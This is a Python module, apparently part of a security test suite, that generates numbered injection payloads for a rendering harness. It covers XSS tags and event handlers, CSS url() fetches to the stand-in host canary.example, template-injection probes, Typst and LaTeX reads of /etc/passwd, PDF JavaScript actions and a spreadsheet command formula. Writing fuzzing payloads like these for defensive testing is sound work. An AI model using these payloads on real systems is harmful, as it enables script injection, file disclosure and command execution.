"""Texts that would run a script, fetch something or forge what a page or a PDF says, where they are not taken as text.

Each does what it does with its own number, so that what was found names its text. Scripts call `ran(…)`, which the
trial watches, and open dialogs; whatever is fetched lies at `CANARY`, which leads to nobody but the trial.
"""

from __future__ import annotations

import random
import string
from collections.abc import Iterator

CANARY = "canary.example"
LONGEST_NAME = 200

HTML = (
    "<script>{run}</script>",
    "<script src={url}></script>",
    "<ScRiPt\n>{run}</sCrIpT >",
    "</title><script>{run}</script>",
    "</style><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</bdi></h1></header><script>{run}</script>",
    "</p></li></ul></form><script>{run}</script>",
    "--><script>{run}</script><!--",
    "]]><script>{run}</script>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<img src=x onerror={run}>",
    '<img src=x onerror="{run}">',
    "<img/src='x'/onerror='{run}'/>",
    "<image src=x onerror={run}>",
    "<img src={url}>",
    "<img srcset='{url} 1x'>",
    "<svg onload={run}>",
    "<svg/onload={run}//",
    "<svg><script>{run}</script></svg>",
    "<svg><script href={url}></script></svg>",
    "<svg><image href={url} /></svg>",
    "<svg><use href={url}#x /></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src={url}></iframe></foreignObject></svg>",
    "<svg><a href=javascript:{run}><text y=9>x</text></a></svg>",
    "<svg><style>@import '{url}'</style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={run}&gt;'>",
    "<math href=javascript:{run}>x</math>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe src={url}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<object data={url}></object>",
    "<object data=javascript:{run}></object>",
    "<embed src={url}>",
    "<link rel=stylesheet href={url}>",
    "<link rel=prefetch href={url}>",
    "<link rel=preconnect href={url}>",
    "<link rel=dns-prefetch href={url}>",
    "<link rel=modulepreload href={url}>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href={url}>",
    "<body onload={run}>",
    "<body background={url}>",
    "<details open ontoggle={run}>x</details>",
    "<video src={url} autoplay onerror={run}></video>",
    "<video poster={url}></video>",
    "<audio src=x onerror={run}></audio>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<p tabindex=0 autofocus onfocus={run}>x</p>",
    "<p onanimationstart={run} style='animation:x 1s'>x</p>",
    "<marquee onstart={run}>x</marquee>",
    "<a href=javascript:{run} autofocus>x</a>",
    "<form action={url} id=f><button autofocus>x</button></form>",
    "<button form=f formaction={url}>x</button>",
    "<template shadowrootmode=open><img src=x onerror={run}></template>",
    "<alignment-assessment api={url} publishable-key=x></alignment-assessment>",
    "<dialog open><iframe src={url}></iframe></dialog>",
    "<portal src={url}></portal>",
    "<plaintext>",
    "<!--",
    "<![CDATA[<script>{run}</script>]]>",
    "<?xml-stylesheet href='{url}'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM '{url}'>]>&y;",
)
STYLES = (
    "<style>@import '{url}'</style>",
    "<style>*{background:url({url})}</style>",
    "<style>bdi[lang^=e]{background:url({url})}</style>",
    "<style>@font-face{font-family:x;src:url({url})}*{font-family:x}</style>",
    '<p style="background:url({url})">x</p>',
    "</style><style>*{list-style:url({url})}",
    "}*{background:url({url})}",
    "red;background:url({url})",
    "expression({run})",
)
ATTRIBUTES = (
    '" onmouseover="{run}" autofocus onfocus="{run}',
    "' autofocus onfocus='{run}",
    "` onerror=`{run}`",
    "x onfocus={run} autofocus",
    '"><img src=x onerror={run}>',
    "'><svg onload={run}>",
    '"/><script>{run}</script>',
    '\\"><script>{run}</script>',
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "\x01javascript:{run}",
    "vbscript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>",
    "{url}",
    "//canary.example/{number}",
    "https://{number}@canary.example/",
    "\\\\canary.example\\{number}",
    "mailto:x@canary.example?subject={number}",
)
ENCODED = (
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "&amp;lt;script&amp;gt;{run}",
    "%3Cscript%3E{run}%3C/script%3E",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{run}",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "\u2039script\u203a{run}",
    "\u212a\u017fcript <\u017fcript>{run}</\u017fcript>",
    "<scr\u200bipt>{run}</script>",
    "<img src=x on\u00aderror={run}>",
)
TEMPLATES = (
    "{{ {run} }}",
    "{{ 7*7 }}",
    "{% include '{url}' %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    '{{constructor.constructor("{run}")()}}',
    "${{run}}",
    "#{{run}}",
    "<%= {run} %>",
    "{count} {0} {name!r} %s %(x)d $x",
    "<lit-html></lit-html><!--?lit$1$-->{{lit-1}}",
    "__proto__",
    "constructor",
)
TYPESET = (
    '#link("{url}")[{number}]',
    '#link("javascript:{run}")[x]',
    '#image("{url}")',
    '#image("/etc/passwd")',
    '#read("/etc/passwd")',
    '#eval("#link(\\"{url}\\")")',
    '#import "@preview/x:1.0.0": *',
    "#set page(width: 1pt)",
    "#set text(size: 900pt)",
    "#pagebreak()#pagebreak()",
    "#while true { [x] }",
    '] #link("{url}")[x] [',
    '") #link("{url}") ("',
    "= Heading\n== Another",
    "*bold* _it_ `raw` $x^2$ <label> @ref // gone",
    "/* gone */ ~ -- --- ... \\ \\#",
    "[{number}](javascript:{run})",
    "[{number}]({url})",
    "![{number}]({url})",
    "<{url}>",
    "# Heading\n- item\n> quote\n***",
    "\\href{{url}}{x} \\input{/etc/passwd}",
    "/S /URI /URI ({url}) >> endobj",
    ") /OpenAction << /S /JavaScript /JS ({run}) >> (",
    '=HYPERLINK("{url}")',
    "=cmd|' /C calc'!A0",
)
LETTERS = (
    "\u202e{number} dlrow olleh",
    "\u202d{number}\u202c\u202c\u202c",
    "\u2066\u2067{number}\u2068",
    "\u2069\u2069\u2069{number}",
    "\u200f{number}\u061c \u200e",
    "שלום {number} עולם",
    "مرحبا {number} بالعالم",
    "\ufeff{number}\u200b\u200c\u200d\u2060",
    "\u0001\u0002\u0008\u000b\u000c\u001b[31m{number}\u001f\u007f",
    "\u0080\u0085\u009b31m{number}\u009f",
    "\u2028{number}\u2029",
    "%00{number}\\0\\x00&#0;\u2400",
    "\ufffe{number}\uffff\U0001fffe",
    "\ue000{number}\U000f0000\U0010fffd",
    "\u0378{number}\u2fe0",
    "e" + "\u0301" * 90 + "{number}",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d{number}",
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇩🇪 {number} 👍🏿",
    "ﷺ ꧅ 𒐫 ⸻ {number}",
    "株式会社 {number} 有限公司 주식회사",
    "ЗАО {number} Ἀθῆναι ΑΘΗΝΑ",
    "\t\n\r {number} \n\n",
    "\u00a0\u2003\u3000{number}\u00a0",
    "\u00ad".join("softhyphens") + "{number}",
)
LONG = (
    "A" * 150 + "{number}",
    "W" * 190,
    "i" * 190,
    "- " * 90,
    "x/" * 90,
    "\u5b57" * 190,
    "\u202e" * 150 + "{number}",
    "<" * 190,
)

EVERY = (*HTML, *STYLES, *ATTRIBUTES, *ENCODED, *TEMPLATES, *TYPESET, *LETTERS, *LONG)


def payloads(count: int, chance: random.Random) -> Iterator[str]:
    """So many texts of at most LONGEST_NAME characters: each kind once, then changed ones of them."""
    for number in range(count):
        shape = EVERY[number] if number < len(EVERY) else _changed(chance.choice(EVERY), chance)
        yield fill(shape, number)[:LONGEST_NAME]


def fill(shape: str, number: int) -> str:
    """A text that names itself by its number in all that it does."""
    for name, value in (("run", f"ran({number})"), ("url", f"http://{CANARY}/{number}"), ("number", str(number))):
        shape = shape.replace(f"{{{name}}}", value)
    return shape


def _changed(shape: str, chance: random.Random) -> str:
    """The same in other clothes: behind what closes what it may stand in, or with letters swapped or put in."""
    before = ("", '"', "'", '">', "'>", "-->", "</p>", "</textarea>", "</bdi>", "\\", "]]>", "*/", "`", "\u202e", " ")
    after = ("", "<!--", '"', "'", "<", "\\", "/*", "\u2069", "&", " x", "\n")
    change = chance.choice((_cased, _spaced, str, str))
    return chance.choice(before) + change(shape) + chance.choice(after)


def _cased(shape: str) -> str:
    """Tags in mixed letters; what is filled in later, and what a script calls, stays."""
    head, brace, rest = shape.partition("{")
    return "".join(letter.upper() if place % 2 else letter for place, letter in enumerate(head)) + brace + rest


def _spaced(shape: str) -> str:
    """A slash or a line's end instead of each blank, as parsers of tags allow."""
    return shape.replace(" ", "\n") if shape[0] in string.punctuation else f"/{shape}"
